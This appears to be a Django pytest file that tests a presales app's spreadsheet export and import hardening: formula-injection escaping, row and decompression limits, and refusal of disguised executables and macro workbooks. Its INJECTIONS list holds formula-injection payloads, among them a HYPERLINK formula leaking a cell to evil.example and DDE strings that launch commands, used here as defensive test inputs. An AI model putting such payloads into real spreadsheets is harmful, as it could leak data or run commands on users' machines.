"""Spreadsheets: user text is written as text, never as a formula; imports refuse oversized
and disguised files quickly, counting every row they read."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import Workbook, load_workbook

from presales.lib.excel import Formula, SpreadsheetError, build_workbook, read_rows

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _in_english():
    with translation.override("en"):
        yield


def test_user_text_that_looks_like_a_formula_is_written_as_text():
    data = build_workbook("客户", ["名称", "金额", "合计"], [[text, 5, Formula("=B2*2")] for text in INJECTIONS])
    sheet = load_workbook(io.BytesIO(data)).active
    for row, text in enumerate(INJECTIONS, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.value == text  # kept exactly as typed …
        assert cell.data_type == "s"  # … but as text, never a formula
        assert cell.quotePrefix  # Excel and LibreOffice show it as text too
        assert sheet.cell(row=row, column=2).value == 5
        assert sheet.cell(row=row, column=3).data_type == "f"  # the product's own formula stays


def _workbook(rows: list[list], name: str = "导入.xlsx") -> SimpleUploadedFile:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def _with_empty_rows(upload: SimpleUploadedFile, count: int) -> SimpleUploadedFile:
    """The same workbook with `count` empty (styled) rows below its data: a few kB on the wire."""
    source = zipfile.ZipFile(io.BytesIO(upload.read()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                last = int(re.findall(r'<row r="(\d+)"', text)[-1])
                empty = "".join(f'<row r="{n}"><c r="A{n}" s="0"/></row>' for n in range(last + 1, last + 1 + count))
                text = re.sub(r"<dimension ref=\"[^\"]+\"/>", "", text)
                data = text.replace("</sheetData>", empty + "</sheetData>").encode()
            archive.writestr(entry, data)
    return SimpleUploadedFile(upload.name, buffer.getvalue())


COLUMNS = {"客户名称": "name", "行业": "industry"}


def test_rows_are_read_by_header():
    rows = read_rows(
        _workbook([["行业", "客户名称"], ["教育", "浙江大学"], [None, None], ["电力", "国网杭州供电公司"]]), COLUMNS
    )
    assert rows == [
        (2, {"name": "浙江大学", "industry": "教育"}),
        (4, {"name": "国网杭州供电公司", "industry": "电力"}),
    ]


def test_a_sheet_of_200000_empty_rows_is_refused_after_the_limit_not_read_to_the_end(settings):
    settings.PRESALES_IMPORT_MAX_ROWS = 5000
    upload = _with_empty_rows(_workbook([["客户名称", "行业"], ["浙江大学", "教育"]]), 200_000)
    assert upload.size < 2 * 1024 * 1024
    with pytest.raises(SpreadsheetError, match="at most 5000 per import, empty rows included"):
        read_rows(upload, COLUMNS)


def test_empty_rows_count_toward_the_callers_own_limit():
    upload = _with_empty_rows(_workbook([["客户名称"], ["浙江大学"]]), 30)
    with pytest.raises(SpreadsheetError, match="at most 20"):
        read_rows(upload, COLUMNS, max_rows=20)
    assert len(read_rows(_with_empty_rows(_workbook([["客户名称"], ["浙江大学"]]), 10), COLUMNS, max_rows=20)) == 1


def test_a_workbook_that_unpacks_past_the_setting_is_refused_before_it_is_parsed(settings):
    settings.PRESALES_MAX_UNCOMPRESSED_MB = 1
    upload = _workbook([["客户名称"], *[["某某有限公司" * 20] for _ in range(3000)]])
    with pytest.raises(SpreadsheetError, match="Unpacked"):
        read_rows(upload, COLUMNS)


def test_a_program_named_xlsx_is_refused_by_the_upload_check():
    with pytest.raises(SpreadsheetError, match="not a .xlsx file"):
        read_rows(SimpleUploadedFile("客户.xlsx", b"MZ\x90\x00" + b"\x00" * 500), COLUMNS)


def test_a_workbook_with_macros_is_refused():
    good = _workbook([["客户名称"], ["浙江大学"]])
    source = zipfile.ZipFile(io.BytesIO(good.read()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for entry in source.infolist():
            archive.writestr(entry, source.read(entry))
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    with pytest.raises(SpreadsheetError, match="macros"):
        read_rows(SimpleUploadedFile("客户.xlsx", buffer.getvalue()), COLUMNS)
